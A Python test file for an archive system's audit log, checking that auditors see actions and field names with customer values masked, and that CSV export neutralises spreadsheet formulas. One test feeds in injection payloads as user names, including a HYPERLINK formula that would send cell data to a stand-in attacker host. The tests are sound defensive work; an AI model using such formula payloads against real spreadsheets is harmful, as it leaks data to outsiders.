"""The auditor sees who did what to which record and which fields changed, never the values
(finding 5); the CSV cannot carry a formula into Excel (finding 6)."""
from __future__ import annotations

import csv
import io
import json

from archive_store import audit_log, corrections, csvfile, users
from tests.secrecy.conftest import BANK, EMAIL, ID_OWN, ID_PARTY, ID_PROPOSED, ID_SPOUSE, MOBILE, leaked_runs, users_of

SECRETS = [ID_OWN, ID_SPOUSE, ID_PARTY, ID_PROPOSED, BANK, MOBILE]


def _all_rows(system, auditor):
    rows, page = [], 1
    while True:
        got, total = audit_log.events(system, auditor, {}, page, 500)
        rows += got
        if len(rows) >= total or not got:
            return rows
        page += 1


def test_the_auditor_reads_actions_and_field_names_but_no_customer_values(world):
    system, data = world
    corrections.correct_field(system, users_of(system)["clerk"], data.docs["corrected"], "collected_by", "欧阳秀远", "识别错误")
    auditor = users_of(system)["auditor"]
    rows = _all_rows(system, auditor)
    page_text = "\n".join(f"{e.actor} {e.object_id} {e.before or ''} {e.after or ''}" for e in rows)
    for secret in SECRETS:
        assert not leaked_runs(page_text, secret), secret
    assert EMAIL not in page_text and "李明" not in page_text
    filed = [e for e in rows if e.action == "document.filed" and e.object_id == data.docs["person"]][0]
    after = json.loads(filed.after)
    assert set(after["fields"]) >= {"id_number", "phone", "email", "customer_name"}  # which fields
    assert set(after["fields"].values()) == {"■■■"}                                 # not their values
    assert after["archive_no"] == data.archives["person"]                           # which record
    corrected = [e for e in rows if e.action == "document.field_corrected"]
    assert corrected and "欧阳" not in page_text
    for e in corrected:
        assert json.loads(e.after)["key"] and json.loads(e.after)["value"] == "■■■"


def test_the_csv_is_masked_the_same_way(world):
    system, _ = world
    rows = list(audit_log.export_rows(system, users_of(system)["auditor"], {}))
    text = "\n".join(",".join(str(c) for c in r) for r in rows)
    for secret in SECRETS:
        assert not leaked_runs(text, secret), secret


def test_a_formula_typed_as_a_user_name_is_neutralised_in_the_csv(world):
    system, _ = world
    names = ['=HYPERLINK("http://evil.example/"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
    for name in names:
        assert users.sign_in(system, name, "wrong-password", address="203.0.113.9") is None
    exported = csvfile.text(audit_log.export_rows(system, users_of(system)["auditor"], {"action": "user.login_failed"}))
    rows = list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))
    cells = [c for r in rows[1:] for c in r]
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'" + names[0] in cells
